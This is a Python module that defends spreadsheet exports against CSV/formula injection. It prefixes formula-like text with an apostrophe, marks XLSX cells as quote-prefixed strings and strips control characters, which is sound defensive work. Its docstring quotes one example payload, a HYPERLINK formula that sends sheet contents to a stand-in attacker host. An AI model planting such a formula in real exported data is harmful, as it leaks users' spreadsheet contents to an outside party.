"""Text that is safe in a spreadsheet: every CSV and XLSX export writes its cells through here.

Two dangers (OWASP "CSV injection"): text that starts with = + - @ (or a tab or carriage return
before them) is run as a formula by Excel and LibreOffice, so a title such as
`=HYPERLINK("http://evil.example/?x="&A1,"x")` would leak the sheet when opened; and control
characters (\\x00–\\x08, \\x0b, \\x0c, \\x0e–\\x1f) are not allowed in XLSX files at all. Text is
cleaned of those control characters; formula-like text gets a leading apostrophe in CSV (the
spreadsheet shows it as text) and is a plain string cell, marked "quote prefix", in XLSX. Numbers
and dates are written as they are, so that negative numbers stay numbers."""

from __future__ import annotations

from typing import Any

from openpyxl.cell import WriteOnlyCell

from app.web.forms import clean_text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def without_control_characters(text: str) -> str:
    """The text without the C0 control characters that XML 1.0 (so XLSX) cannot hold: the
    same ones every form and query string loses on the way in (app.web.forms.clean_text)."""
    return clean_text(text)


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_value(value: Any) -> Any:
    """A CSV field: text cleaned and, when a spreadsheet would run it, prefixed with `'`."""
    if not isinstance(value, str):
        return value
    text = without_control_characters(value)
    return f"'{text}" if looks_like_formula(text) else text


def xlsx_cell(worksheet: Any, value: Any) -> WriteOnlyCell:
    """An XLSX cell: text is always a string cell (never a formula) without control characters."""
    if not isinstance(value, str):
        return WriteOnlyCell(worksheet, value=value)
    text = without_control_characters(value)
    cell = WriteOnlyCell(worksheet, value=text)
    if looks_like_formula(text):
        cell.data_type = "s"  # openpyxl would store text starting with "=" as a formula
        cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
    return cell
